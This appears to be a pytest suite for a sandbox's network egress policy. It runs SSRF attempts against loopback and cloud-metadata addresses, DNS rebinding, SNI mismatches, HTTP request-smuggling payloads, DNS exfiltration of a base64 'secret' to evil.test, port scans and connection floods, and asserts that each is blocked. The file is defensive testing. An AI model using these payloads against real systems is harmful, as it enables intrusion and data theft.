"""Group L: what a hostile program with a network policy tries, and what a witness outside saw.

Each attack has a control: the same program reaches the same witness where the policy allows it.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from cellwall import Sandbox
from kit.outside.servers import HOST, OUTSIDE, Sink
from kit.outside.world import World

pytestmark = pytest.mark.root

_TOOLS = '''
import json, socket, ssl, struct, time

# Where the ways out are: on loopback, or at the gateway of a kernel of its own.
named = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
WAY = named[0] if named else "127.0.0.1"

def attempt(work):
    """What came of it, and that nothing waited."""
    begun = time.monotonic()
    try:
        found = work()
    except Exception as error:
        found = type(error).__name__
    assert time.monotonic() - begun < 8, "it waited"
    return found

def raw(address, port, said=b"*x\\n"):
    with socket.create_connection((address, port), 5) as held:
        held.sendall(said)
        return held.recv(1000).decode("latin-1")

def pieces(address, port, said):
    with socket.create_connection((address, port), 5) as held:
        held.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in said:
            held.sendall(piece)
            time.sleep(0.05)  # so that they come one by one
        return held.recv(1000).decode("latin-1")

def by_proxy(text):
    with socket.create_connection((WAY, 3128), 5) as held:
        held.sendall(text)
        return held.recv(2000).decode("latin-1")

def connect(authority, said=b""):
    with socket.create_connection((WAY, 3128), 5) as held:
        held.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n".encode())
        first = held.recv(2000)
        if not first.startswith(b"HTTP/1.1 200"):
            return first.decode("latin-1")
        held.sendall(said or b"GET / HTTP/1.1\\r\\nHost: " + authority.encode() + b"\\r\\n\\r\\n")
        return held.recv(2000).decode("latin-1")

def tls(host, port, name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((host, port), 5) as held:
        with context.wrap_socket(held, server_hostname=name) as over:
            over.sendall(b"GET /tls HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n")
            return over.recv(2000).decode("latin-1")
'''


def _said(sandbox: Sandbox, *calls: str) -> list[Any]:
    """Run each expression inside; each result is what came of it."""
    lines = "".join(f"found.append(attempt(lambda: {call}))\n" for call in calls)
    done = sandbox.run(f"{_TOOLS}\nfound = []\n{lines}print(json.dumps(found))", timeout=60)
    assert done.outcome.verdict == "ok", (done.stderr, done.error)
    answers: list[Any] = json.loads(done.stdout)
    assert len(answers) == len(calls)
    return answers


@pytest.fixture
def open_sandbox(any_outside: World) -> Iterator[Sandbox]:
    """A sandbox with the widest policy there is."""
    with any_outside.sandbox("open") as sandbox:
        yield sandbox


ODD = [
    "127.0.0.1",
    "0.0.0.0",
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "127.1",
    "[::ffff:127.0.0.1]",
    "[::127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[::]",
    "localhost",
    "inner.test",
]


def test_no_spelling_of_the_hosts_address_reaches_it(
    any_outside: World, open_sandbox: Sandbox
) -> None:
    """L11, L01: by CONNECT, by a URL for the proxy, and dialled."""
    port, before = any_outside.host.port, any_outside.host.connections
    for form in ODD:
        url = f"GET http://{form}:{port}/ HTTP/1.1\\r\\nHost: {form}:{port}\\r\\n\\r\\n"
        plain = form.strip("[]")
        tunnel, proxied, dialled = _said(
            open_sandbox,
            f"connect('{form}:{port}')",
            f"by_proxy(b'{url}')",
            f"raw('{plain}', {port})",
        )
        assert tunnel.startswith(("HTTP/1.1 403", "HTTP/1.1 502")), (form, tunnel)
        assert proxied.startswith(("HTTP/1.1 403", "HTTP/1.1 502")), (form, proxied)
        assert dialled in {
            "ConnectionRefusedError",
            "ConnectionResetError",
            "gaierror",
            "OSError",
        }, (form, dialled)
    assert any_outside.host.connections == before
    (control,) = _said(open_sandbox, f"connect('web.test:{any_outside.web.port}')")
    assert control.startswith("HTTP/1.1 200")


METADATA = [
    "169.254.169.254",
    "100.100.100.200",
    "192.0.0.192",
    "168.63.129.16",
    "[fd00:ec2::254]",
    "[fe80::1]",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "100.64.0.1",
    "224.0.0.1",
    "255.255.255.255",
    "198.18.0.77",
]


def test_special_addresses_are_refused_in_every_mode(
    any_outside: World, open_sandbox: Sandbox
) -> None:
    """L10, L01: clouds' metadata, private, shared, multicast, and made-up addresses nobody has."""
    answers = _said(open_sandbox, *(f"connect('{each}:80')" for each in METADATA))
    for form, answer in zip(METADATA, answers, strict=True):
        assert answer.startswith("HTTP/1.1 403"), (form, answer)
        assert "is no public address" in answer
    forms = [each.strip("[]") for each in METADATA if not each.startswith(("22", "25", "[fe80"))]
    request = "b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'"
    dialled = _said(open_sandbox, *(f"raw('{each}', 80, {request})" for each in forms))
    no_ipv6 = {"OSError"} if any_outside.runtime == "gvisor" else set()
    for form, answer in zip(forms, dialled, strict=True):
        is_out = ":" in form and answer in no_ipv6
        assert is_out or answer.startswith("HTTP/1.1 403"), (form, answer)


def test_rebinding_connects_to_what_was_checked(any_outside: World) -> None:
    """L12: public first, then the host; and both in one answer."""
    port, before = any_outside.web.port, any_outside.host.connections
    turns = iter([[OUTSIDE]] * 2 + [[HOST]] * 50)  # for IPv4 and for IPv6
    any_outside.names.records["turning.test"] = lambda: next(turns)
    any_outside.names.records["both.test"] = [HOST, OUTSIDE]
    with any_outside.sandbox("open") as sandbox:
        first, second, both = _said(
            sandbox,
            f"connect('turning.test:{port}')",
            f"connect('turning.test:{port}')",
            f"connect('both.test:{port}')",
        )
        to_host = _said(sandbox, f"connect('both.test:{any_outside.host.port}')")
    assert first.startswith("HTTP/1.1 200")
    assert second.startswith("HTTP/1.1 200")
    assert both.startswith("HTTP/1.1 200")
    assert to_host[0].startswith("HTTP/1.1 502")
    assert any_outside.host.connections == before


def test_an_alias_does_not_lead_to_the_host(any_outside: World) -> None:
    """An allowed name whose CNAME is a name of the host's."""
    before = any_outside.host.connections
    any_outside.names.aliases["alias.test"] = "inner.test"
    any_outside.names.aliases["good.test"] = "web.test"
    try:
        with any_outside.sandbox("open") as sandbox:
            bad, good = _said(
                sandbox,
                f"connect('alias.test:{any_outside.host.port}')",
                f"connect('good.test:{any_outside.web.port}')",
            )
    finally:
        any_outside.names.aliases.clear()
    assert bad.startswith("HTTP/1.1 502")
    assert "no public address" in bad
    assert good.startswith("HTTP/1.1 200")
    assert any_outside.host.connections == before


def test_a_redirect_is_a_connection_like_any_other(any_outside: World) -> None:
    """L13: from an allowed host to the host's loopback and to a name that no rule has."""
    port, before = any_outside.web.port, any_outside.host.connections
    any_outside.web.redirects |= {
        "/to-host": f"http://inner.test:{any_outside.host.port}/",
        "/to-other": f"http://other.test:{port}/",
        "/to-itself": f"http://web.test:{port}/there",
    }
    get = (
        "__import__('urllib.request').request"
        ".urlopen('http://web.test:{}{}', timeout=5).read().decode()"
    )
    with any_outside.sandbox(
        [f"web.test:{port}", f"inner.test:{any_outside.host.port}"]
    ) as sandbox:
        to_host, to_other, itself = _said(
            sandbox, *(get.format(port, path) for path in ("/to-host", "/to-other", "/to-itself"))
        )
    assert (to_host, to_other) == ("URLError", "URLError")
    assert itself == "GET /there 0"
    assert any_outside.host.connections == before


def test_connect_reaches_allowed_ports_only(any_outside: World) -> None:
    """L14: the tunnel to an allowed host on another port."""
    with any_outside.sandbox([f"web.test:{any_outside.web.port}"]) as sandbox:
        ssh, mail, sink, control = _said(
            sandbox,
            "connect('web.test:22')",
            "connect('web.test:25')",
            f"connect('web.test:{any_outside.sink.port}', b'*x')",
            f"connect('web.test:{any_outside.web.port}')",
        )
    assert {each[:12] for each in (ssh, mail, sink)} == {"HTTP/1.1 403"}
    assert control.startswith("HTTP/1.1 200")


def test_the_name_in_tls_must_be_the_allowed_one(any_outside: World) -> None:
    """L15: dialled and tunnelled to an allowed name, with another one in the handshake."""
    port, seen = any_outside.tls_web.port, len(any_outside.tls_web.requests)
    with any_outside.sandbox([f"web.test:{port}"]) as sandbox:
        fronted, good = _said(
            sandbox,
            f"tls('web.test', {port}, 'other.test')",
            f"tls('web.test', {port}, 'web.test')",
        )
        code = (
            f"{_TOOLS}\n"
            "def tunnelled(name):\n"
            "    held = socket.create_connection((WAY, 3128), 5)\n"
            f"    to = b'web.test:{port}'\n"
            "    held.sendall(b'CONNECT ' + to + b' HTTP/1.1\\r\\nHost: ' + to + b'\\r\\n\\r\\n')\n"
            "    assert held.recv(2000).startswith(b'HTTP/1.1 200')\n"
            "    context = ssl.create_default_context(); context.check_hostname = False\n"
            "    context.verify_mode = ssl.CERT_NONE\n"
            "    over = context.wrap_socket(held, server_hostname=name)\n"
            "    over.sendall(b'GET /tls HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')\n"
            "    return over.recv(2000).decode()\n"
            "names = ('other.test', 'web.test')\n"
            "print(json.dumps([attempt(lambda: tunnelled(n)) for n in names]))\n"
        )
        done = sandbox.run(code)
    fronted_2, good_2 = json.loads(done.stdout)
    assert (fronted, fronted_2) == ("SSLError", "SSLError")
    assert good.startswith("HTTP/1.1 200")
    assert good_2.startswith("HTTP/1.1 200")
    assert len(any_outside.tls_web.requests) == seen + 2
    assert any("names another server" in str(r.get("rule")) for _, r in any_outside.records)


SMUGGLED = {
    "two lengths": "POST / HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 4\\r\\nContent-Length: 5"
    "\\r\\n\\r\\nabcde",
    "a length and chunks": "POST / HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 4\\r\\n"
    "Transfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\n\\r\\n",
    "chunks in HTTP/1.0": "POST / HTTP/1.0\\r\\nHost: {host}\\r\\n"
    "Transfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\n\\r\\n",
    "odd chunks": "POST / HTTP/1.1\\r\\nHost: {host}\\r\\n"
    "Transfer-Encoding: xchunked\\r\\n\\r\\nabcd",
    "two hosts": "GET / HTTP/1.1\\r\\nHost: {host}\\r\\nHost: other.test\\r\\n\\r\\n",
    "another host": "GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
    "no host": "GET / HTTP/1.1\\r\\n\\r\\n",
    "a URL for a proxy": "GET http://other.test/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n",
    "a space before the colon": "GET / HTTP/1.1\\r\\nHost : {host}\\r\\n\\r\\n",
    "a folded line": "GET / HTTP/1.1\\r\\nHost: {host}\\r\\nX: a\\r\\n Host: other.test"
    "\\r\\n\\r\\n",
    "blank lines first": "\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
    "a long header": "GET / HTTP/1.1\\r\\nHost: {host}\\r\\nX: {long}\\r\\n\\r\\n",
    "a second request": "GET /first HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
    "GET /smuggled HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_a_request_with_two_meanings_is_not_passed_on(outside: World, name: str) -> None:
    """L16: on a dialled connection; the server sees no request for another host."""
    host = f"web.test:{outside.web.port}"
    text = SMUGGLED[name].replace("{host}", host).replace("{long}", "a" * 70_000)
    seen = len(outside.web.requests)
    with outside.sandbox([host]) as sandbox:
        done = sandbox.run(
            f"import socket\nheld = socket.create_connection(('web.test', {outside.web.port}), 5)\n"
            f"held.sendall(b'{text}'); held.shutdown(1)\n"
            "data = b''\n"
            "try:\n"
            "    while piece := held.recv(65536): data += piece\n"
            "except ConnectionError: pass\n"
            "print(data.decode('latin-1'))\n",
            timeout=20,
        )
    assert done.outcome.verdict == "ok", done.error
    for _, path, headers in outside.web.requests[seen:]:
        assert headers["Host"] == host
        assert path != "/smuggled"
    if name not in ("a folded line", "a second request"):
        assert len(outside.web.requests) == seen
    assert " 200 " not in done.stdout or name in ("a folded line", "a second request")


def test_http_2_without_tls_is_not_passed_on(outside: World) -> None:
    """Its requests cannot be looked at: by its preface, by an upgrade, and after a greeting."""
    preface = b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"
    port = outside.sink.port
    seen = len(outside.sink.said)
    upgrade = (
        "GET / HTTP/1.1\\r\\nHost: web.test:{0}\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n"
    )
    upgrade += "Upgrade: {1}\\r\\nHTTP2-Settings: AAMAAABk\\r\\n\\r\\n"
    web = outside.web.port
    with outside.sandbox([f"web.test:{port},{web}"]) as sandbox:
        by_preface, in_pieces, by_upgrade, websocket = _said(
            sandbox,
            f"raw('web.test', {port}, {preface!r})".replace("\\\\", "\\"),
            f"pieces('web.test', {port}, [b'PRI', b' * HTTP/2.0\\r\\n'])",
            f"raw('web.test', {web}, b'{upgrade.format(web, 'h2c')}')",
            f"raw('web.test', {web}, b'{upgrade.format(web, 'websocket')}')",
        )
    assert by_preface in ("ConnectionResetError", "")
    assert in_pieces in ("ConnectionResetError", "")
    assert not any(outside.sink.said[seen:])
    # The server sees a plain request; the control is the one protocol that passes.
    assert by_upgrade.startswith("HTTP/1.1 200")
    assert websocket.startswith("HTTP/1.1 200")
    h2c, other = outside.web.requests[-2:]
    assert "Upgrade" not in h2c[2]
    assert other[2]["Upgrade"] == "websocket"


def test_http_after_a_greeting_is_not_passed_on(outside: World) -> None:
    """A server that speaks first has a protocol of its own, and requests are none of it."""
    heard: list[bytes] = []

    def greet(held: socket.socket) -> None:
        held.sendall(b"220 hello\r\n")
        while piece := held.recv(1000):
            heard.append(piece)

    with Sink(greet) as server, outside.sandbox([f"web.test:{server.port}"]) as sandbox:
        for said in ("GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", "EHLO me\\r\\n"):
            sandbox.run(
                f"import socket; s = socket.create_connection(('web.test', {server.port}), 5)\n"
                f"s.recv(100); s.sendall(b'{said}'); s.shutdown(1)\n"
                "try:\n"
                "    while s.recv(1000): pass\n"
                "except ConnectionError: pass\n"
            )
    assert heard == [b"EHLO me\r\n"]


def test_only_tcp_leaves(outside: World) -> None:
    """L02, L18: UDP, QUIC's port, ICMP, multicast, broadcast and raw sockets fail at once."""
    with outside.sandbox("open") as sandbox:
        _only_tcp_leaves(sandbox)


def _only_tcp_leaves(open_sandbox: Sandbox) -> None:
    udp = "socket.socket(socket.{0}, socket.SOCK_DGRAM).sendto(b'x', ({1!r}, {2}))"
    answers = _said(
        open_sandbox,
        udp.format("AF_INET", "8.8.8.8", 443),
        udp.format("AF_INET", "8.8.8.8", 53),
        udp.format("AF_INET", "224.0.0.251", 5353),
        udp.format("AF_INET", "198.18.0.1", 443),
        udp.format("AF_INET6", "2001:4860:4860::8888", 443),
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'x' * 8, ('8.8.8.8', 0))",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
    )
    assert set(answers) <= {"PermissionError", "OSError"}, answers
    own = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9999))"
    assert _said(open_sandbox, own) == [1]


def test_questions_carry_nothing_out(any_outside: World) -> None:
    """L03, L04: data in labels, other types, other servers, DNS over TCP."""
    query = (
        "(lambda name, kind: b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'"
        " + b''.join(bytes([len(p)]) + p for p in name.split(b'.')) + b'\\x00'"
        " + struct.pack('>HH', kind, 1))"
    )
    ask = (
        f"(lambda s: (s.settimeout(5), s.sendto({query}({{0}}, {{1}}), (WAY, 53)),"
        " s.recv(1000)[3] & 15)[2])(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))"
    )
    over_tcp = (
        f"(lambda s, q: (s.sendall(struct.pack('>H', len(q)) + q), s.recv(1000)[5] & 15)[1])"
        f"(socket.create_connection((WAY, 53), 5), {query}({{0}}, {{1}}))"
    )
    before = list(any_outside.names.asked)
    with any_outside.sandbox(["web.test", "*.wild.test"]) as sandbox:
        answers = _said(
            sandbox,
            ask.format("b'web.test'", 1),
            ask.format("b'c2VjcmV0.evil.test'", 1),
            ask.format("b'c2VjcmV0.web.test'", 16),
            ask.format("b'web.test'", 16),
            over_tcp.format("b'web.test'", 1),
            over_tcp.format("b'c2VjcmV0.evil.test'", 1),
            "raw('8.8.8.8', 53)",
        )
    nxdomain, noerror = 3, 0
    assert answers[:6] == [noerror, nxdomain, nxdomain, noerror, noerror, nxdomain]
    assert answers[6] in ("ConnectionResetError", "ConnectionRefusedError")
    asked = set(any_outside.names.asked[len(before) :])
    assert asked <= {"web.test"}, asked


def test_inside_finds_no_other_port(outside: World) -> None:
    """L24, L08: of the host there is nothing but the ways out, and no engine's socket."""
    scan = (
        "import socket\n"
        "def is_open(port):\n"
        "    with socket.socket() as s:\n"
        "        # A socket may get that very port, and meet itself.\n"
        "        return s.connect_ex(('127.0.0.1', port)) == 0 and s.getsockname()[1] != port\n"
        "print([p for p in range(1, 65536) if is_open(p)])"
    )
    with outside.sandbox(["web.test"]) as sandbox:
        done = sandbox.run(scan, timeout=60)
        assert done.stdout.strip() == "[1, 53, 3128]", done.error
    with outside.sandbox(None) as sandbox:
        assert sandbox.run(scan, timeout=60).stdout.strip() == "[]"


def test_a_namespace_with_rules_is_never_lent_again(outside: World) -> None:
    """M: a sandbox without a network that comes after one with it has no route and no rule."""
    dial = "import socket; print(socket.socket().connect_ex(('192.0.2.1', 80)))"
    unreachable = "101\n"
    for _ in range(12):
        outside.run("pass", ["web.test"], limits={"processes": 5})
        assert outside.run(dial, None, limits={"processes": 5}) == unreachable
    assert outside.run(dial, ["web.test"]) == "0\n"  # the control: here it is answered


def test_nothing_of_a_sandbox_stays_in_the_proxy(outside: World) -> None:
    """Descriptors of the proxy and of this process are as many as before."""
    import os

    def held() -> tuple[int, int]:
        pid = outside.runner.call(lambda engine, _put: _pid(engine))
        return len(os.listdir(f"/proc/{pid}/fd")), len(os.listdir("/proc/self/fd"))

    def once() -> None:
        port = outside.web.port
        with outside.sandbox([f"web.test:{port}"]) as sandbox:
            _said(sandbox, f"connect('web.test:{port}')")
        outside.runner.call(lambda engine, _put: engine.wait_settled())

    once()
    before = held()
    for _ in range(5):
        once()
    proxy, own = held()
    assert proxy <= before[0]
    assert own <= before[1] + 10  # the pool may hold one more parked sandbox


async def _pid(engine: object) -> int | None:
    return engine.outside.proxy.pid  # type: ignore[attr-defined,no-any-return]


class _Beside(threading.Thread):
    """Runs a program that says `begun`; made once it has said so."""

    def __init__(self, sandbox: Sandbox, program: str) -> None:
        super().__init__(daemon=True)
        self._sandbox, self._program = sandbox, program
        self._begun = threading.Event()
        self._said = ""
        self.start()
        assert self._begun.wait(20)

    def run(self) -> None:
        done = self._sandbox.run(
            self._program, timeout=60, on_stdout=lambda _text: self._begun.set()
        )
        self._said = done.stdout

    def stdout(self) -> str:
        """All that it said, at its end."""
        self.join()
        return self._said


@pytest.mark.alone
@pytest.mark.timeout(180)
def test_ten_thousand_connections_leave_the_neighbour_alone(outside: World) -> None:
    """L19: the cap holds, and a neighbour beside the flood is served about as beside a burner."""
    port = outside.web.port
    ask = (
        "import statistics, time, urllib.request\n"
        "def once():\n"
        "    begun = time.perf_counter()\n"
        f"    assert urllib.request.urlopen('http://web.test:{port}/', timeout=20).status == 200\n"
        "    return time.perf_counter() - begun\n"
        "once()\n"
        "print(statistics.median(once() for _ in range(60)))\n"
    )
    flood = (
        "import socket, threading\n"
        "made = 0\n"
        "def pour():\n"
        "    global made\n"
        "    for _ in range(500):\n"
        "        with socket.socket() as held:\n"
        "            held.settimeout(0.05)  # what finds no room in the queue is not waited for\n"
        f"            held.connect_ex(('198.18.0.1', {outside.sink.port})); made += 1\n"
        f"socket.getaddrinfo('web.test', {outside.sink.port})\n"
        "workers = [threading.Thread(target=pour) for _ in range(20)]\n"
        "print('begun', flush=True)\n"
        "for each in workers: each.start()\n"
        "for each in workers: each.join()\n"
        "print(made)\n"
    )
    burner = "print('begun', flush=True)\nwhile True: pass\n"
    took: dict[str, float] = {}
    with outside.sandbox([f"web.test:{port}"], limits={"wall_s": 60, "cpu_s": 60}) as neighbour:
        for name, program in (("flood", flood), ("burner", burner)):
            policy = {"allow": [f"web.test:{outside.sink.port}"], "connections": 50}
            with outside.sandbox(policy, limits={"wall_s": 60, "cpu_s": 60}) as other:
                beside = _Beside(other, program)
                took[name] = float(neighbour.run(ask, timeout=60).stdout)
                if name == "flood":
                    assert beside.stdout() == "begun\n10000\n"
                    assert other.network_usage().connections <= 10_000
            beside.join()
    assert took["flood"] < 3 * took["burner"], took
